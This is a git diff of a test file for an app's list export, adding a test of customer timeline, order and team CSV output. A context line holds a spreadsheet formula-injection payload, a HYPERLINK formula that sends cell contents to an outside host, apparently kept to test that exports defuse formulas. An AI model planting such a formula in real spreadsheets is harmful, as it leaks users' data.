@@ -6,6 +6,7 @@ import { readOds } from 'hucre/ods';
 import readXlsxFile from 'read-excel-file/node';
 import { describe, expect, it, onTestFinished } from 'vitest';
 import { systemClock } from '#shared/domain/clock.ts';
+import { newId } from '#shared/domain/ids.ts';
 import { silentLogger } from '#shared/domain/logger.ts';
 import { exportLists, type ExportFormat, type ExportList, type ExportRequest } from '#shared/domain/office.ts';
 import { connect } from '#shared/ipc/client.ts';
@@ -14,8 +15,9 @@ import { serve } from '#shared/ipc/server.ts';
 import { ExportDesk } from '../../../electron/main/office/export-desk.ts';
 import { officeHandlers } from '../../../electron/office/office-handlers.ts';
 import { messagePort } from '../../../electron/store/ports.ts';
+import { orderRow } from '../../fixtures/ordering.ts';
 import { withDatabase } from '../store/support/raw-database.ts';
-import { outboxOf, seed } from '../store/support/seed.ts';
+import { arrive, outboxOf, seed } from '../store/support/seed.ts';
 import { answer, hangUp, ring, storeBench, type StoreBench } from '../store/support/store-bench.ts';
 
 const hostile = '=HYPERLINK("http://example.org/?"&A1,"Klik")';
@@ -130,6 +132,35 @@ describe('a list as a file', () => {
     await expect(save({ list: 'customers', text: 'peeters' }, 'xlsx')).rejects.toMatchObject({ code: 'office.not-allowed' });
     expect(existsSync(join(folder, 'lijst.xlsx'))).toBe(false);
     expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toEqual([]);
+  });
+
+  it('of all that happened with a customer has every kind of line, in words; orders and teams are lists of their own', async () => {
+    const { bench, save } = await desk();
+    const centre = seed(bench.path);
+    const customerId = centre.customers[0]!.id;
+    const agent = { version: 1, updatedAt: '2026-01-05T08:00:00.000Z', username: 'x', extension: '207', languages: ['nl', 'fr'] as ('nl' | 'fr')[] };
+    arrive(bench.path, 'agent', [{ ...agent, id: newId(), name: 'Zoë', team: 'Avond' }, { ...agent, id: newId(), name: 'An', team: 'Bestellingen' }]);
+    const history = [{ state: 'confirmed', at: '2026-03-02T08:00:00.000Z', by: null }, { state: 'shipped', at: '2026-03-03T08:00:00.000Z', by: null }] as const;
+    arrive(bench.path, 'order', [orderRow({ customerId, history: [...history] })]);
+    await bench.workspace.call('note.add', { customerId, text: 'Belt na 17 uur', pinned: false });
+    await bench.workspace.call('promise.add', { customerId, text: 'Terugbellen', dueAt: '2026-12-01T16:00:00.000Z', caseId: null, mine: true });
+    await bench.workspace.call('consent.add', { customerId, channel: 'phone', purpose: 'any', state: 'withdrawn', source: 'call', how: 'gezegd' });
+    await bench.workspace.call('customer.change', { id: customerId, change: { customer: { givenName: 'Piet' } } });
+    const lines = async (request: ExportRequest): Promise<string[][]> => {
+      const { path } = await save(request, 'csv');
+      return readFileSync(path, 'utf8').trimEnd().split('\r\n').slice(1).map((line) => line.split(';').map((cell) => cell.slice(1, -1)));
+    };
+    const timeline = await lines({ list: 'timeline', customerId });
+    expect(timeline.map(([, kind, , what, state, , , , content, remark]) => [kind, what, state, content, remark])).toEqual([
+      ['kind.correction', 'correction.customer.givenName', '', 'Piet', 'Pieter'],
+      ['kind.consent', 'consent.phone.any', 'consent.withdrawn', '', 'gezegd'],
+      ['kind.promise', '', 'promise.open', 'Terugbellen', ''],
+      ['kind.note', '', '', 'Belt na 17 uur', ''],
+      ['kind.order', '', 'order.shipped', '2 × Proefdoos Loire', ''],
+      ['kind.order', '', 'order.confirmed', '2 × Proefdoos Loire', ''],
+    ]);
+    for (const of of [customerId, null]) expect((await lines({ list: 'orders', customerId: of })).map(([, number, state, , name, products, total]) => [number, state, name, products, total])).toEqual([['O-100204', 'order.shipped', 'Piet De Smet', '2 × Proefdoos Loire', '108']]);
+    expect(await lines({ list: 'team' })).toEqual([['Zoë', 'Avond', '207', 'nl, fr'], ['An', 'Bestellingen', '207', 'nl, fr']]);
   });
 
   it('that the operator does not save after all is not written down', async () => {
